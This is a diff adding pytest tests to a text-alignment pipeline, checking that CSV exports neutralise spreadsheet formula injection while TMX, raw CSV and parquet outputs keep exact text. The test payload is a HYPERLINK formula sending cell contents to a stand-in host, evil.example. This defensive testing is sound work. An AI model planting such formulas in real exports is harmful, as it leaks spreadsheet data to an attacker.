@@ -7,6 +7,7 @@ import json
 import shutil
 from pathlib import Path
 
+import pandas as pd
 import pytest
 
 from pipeline.align import corrections
@@ -206,3 +207,56 @@ def test_a_truncated_done_marker_means_run_again(tmp_path: Path, caplog) -> None
     marker.write_text('{"doc": "UNODC_CCPCJ_EG.4_2020_1", "status": "o', encoding="utf-8")
     assert done_result(tmp_path, DOC, "key") is None
     assert "unreadable" in caplog.text
+
+
+# --- 4. CSV formula injection ----------------------------------------------------------------
+
+ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+@pytest.fixture()
+def poisoned(bundled_stages: Path, tmp_path: Path) -> Path:
+    """The bundled stage outputs with the first English paragraph replaced by a formula and the
+    first French one starting with a minus sign."""
+    root = tmp_path / "stages"
+    for stage in ("aligned", "tagged"):
+        shutil.copytree(bundled_stages / stage / DOC, root / stage / DOC)
+    sixway = root / "aligned" / DOC / "sixway.jsonl"
+    rows = [json.loads(line) for line in sixway.read_text(encoding="utf-8").splitlines()]
+    first = next(r for r in rows if r["en_ids"] and r.get("fr_ids"))
+    first["en"], first["fr"] = ATTACK, "-1 pour cent@"
+    sixway.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows), encoding="utf-8")
+    tagged = root / "tagged" / DOC / "en.jsonl"
+    paragraphs = [json.loads(line) for line in tagged.read_text(encoding="utf-8").splitlines()]
+    next(p for p in paragraphs if p["para_id"] == first["en_ids"][0])["text"] = ATTACK
+    tagged.write_text("".join(json.dumps(p, ensure_ascii=False) + "\n" for p in paragraphs), encoding="utf-8")
+    return root
+
+
+def _export(root: Path, out: Path, *extra: str) -> tuple[pd.DataFrame, pd.DataFrame]:
+    args = ["export", "--aligned", str(root / "aligned"), "--tagged", str(root / "tagged"), "--out", str(out)]
+    assert main([*args, "--segmented", "", *extra]) == 0
+    read = {"dtype": str, "keep_default_na": False}
+    return pd.read_csv(out / f"{DOC}.wide.csv", **read), pd.read_csv(out / f"{DOC}.long.csv", **read)
+
+
+def test_csv_cells_that_would_run_as_formulas_are_neutralised(poisoned: Path, tmp_path: Path) -> None:
+    wide, long = _export(poisoned, tmp_path / "exports")
+    assert "'" + ATTACK in set(wide["en"]) and "'-1 pour cent@" in set(wide["fr"])
+    assert "'" + ATTACK in set(long["text"])
+    for frame in (wide, long):
+        cells = frame.to_numpy().ravel()
+        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert pd.to_numeric(wide["confidence"]).between(0, 1).all(), "numbers stay numbers"
+    tmx = (tmp_path / "exports" / f"{DOC}.tmx").read_text(encoding="utf-8")
+    assert "<seg>=HYPERLINK(" in tmx, "the TMX keeps the exact text"
+
+
+def test_raw_csv_and_the_parquet_store_keep_the_exact_text(poisoned: Path, tmp_path: Path) -> None:
+    from pipeline.corpus.stage import write_store
+
+    wide, long = _export(poisoned, tmp_path / "raw", "--raw-csv")
+    assert ATTACK in set(wide["en"]) and ATTACK in set(long["text"])
+    write_store(tmp_path / "store", DOC, poisoned)
+    store = pd.read_parquet(tmp_path / "store" / "paragraphs", filters=[("lang", "=", "en")])
+    assert ATTACK in set(store["text"])
